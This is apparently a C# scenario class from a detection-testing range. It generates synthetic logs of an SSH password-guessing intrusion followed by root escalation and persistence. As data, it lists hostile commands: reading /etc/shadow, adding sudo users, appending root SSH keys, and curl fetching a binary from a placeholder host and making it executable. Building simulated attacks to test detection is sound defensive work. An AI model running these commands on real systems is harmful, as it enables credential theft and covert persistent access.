using BehaviorElasticSidecar.Range.Days;
using BehaviorElasticSidecar.Range.Sites;

namespace BehaviorElasticSidecar.Range.Scenarios.Attacks;

/// <summary>Somebody guesses an engineer's password at the SSH server, gets in, becomes root and makes sure to stay.</summary>
/// <remarks>Seen: failures of a name that exists, then a success from the same address, then commands new to the person. Hidden by: strangers guess there all day.</remarks>
internal sealed class LinuxBruteForce : Scenario
{
    private static readonly string[][] Commands =
    [
        ["/usr/bin/cat /etc/shadow", "/usr/sbin/useradd -m -G sudo svc_update", "/usr/bin/crontab -e"],
        ["/usr/bin/bash", "/usr/bin/tee -a /root/.ssh/authorized_keys"],
        ["/usr/bin/systemctl enable sysmon-helper", "/usr/bin/curl -o /usr/local/bin/syncd http://198.51.100.171/s", "/usr/bin/chmod 755 /usr/local/bin/syncd"],
        ["/usr/bin/su -", "/usr/sbin/usermod -aG sudo backup"],
    ];

    private Person _engineer = null!;
    private Origin _from;

    public override string Id => "linux_brute_force";

    public override string Title => "Password guessing at the SSH server that succeeds, then root and persistence";

    public override IReadOnlyList<string> Techniques => ["T1110.001", "T1078.003", "T1548.003", "T1136.001"];

    public override Difficulty Difficulty => Difficulty.Loud;

    public override void Cast(Casting casting)
    {
        _engineer = casting.Person(p => p.LinuxServers.Count > 0);
        _from = Origin.Guesser(casting.Chance);
    }

    public override void Play(Stage stage)
    {
        var (guesses, gapSeconds, hour) = stage.Variant switch { 0 => (190, 4, 21.6), 1 => (60, 20, 4.5), 2 => (400, 2, 13.0), _ => (40, 500, 8.0) };
        var bastion = stage.Site.Servers.Bastion;
        var at = stage.At(hour) + stage.Chance.Below(900_000);
        var guess = new Act { TimeMs = at, Kind = ActKind.SshFailed, Who = _engineer.Account, On = bastion, From = _from.Address, At = _from.At, Salt = 0 };
        for (var i = 0; i < guesses; i++, at = stage.Soon(at, gapSeconds))
            stage.Add(guess with { TimeMs = at, Salt = stage.Chance.Bits() });
        stage.Add(guess with { TimeMs = at, Kind = ActKind.SshLogin, Salt = stage.Chance.Bits() });
        foreach (var command in Commands[stage.Variant])
        {
            at = stage.Soon(at, 100);
            stage.Add(new Act { TimeMs = at, Kind = ActKind.Sudo, Who = _engineer.Account, On = bastion, Text = command, Salt = stage.Chance.Bits() });
        }

        stage.About(_engineer);
        stage.About(bastion);
        stage.AboutAddress(_from.Address);
    }
}
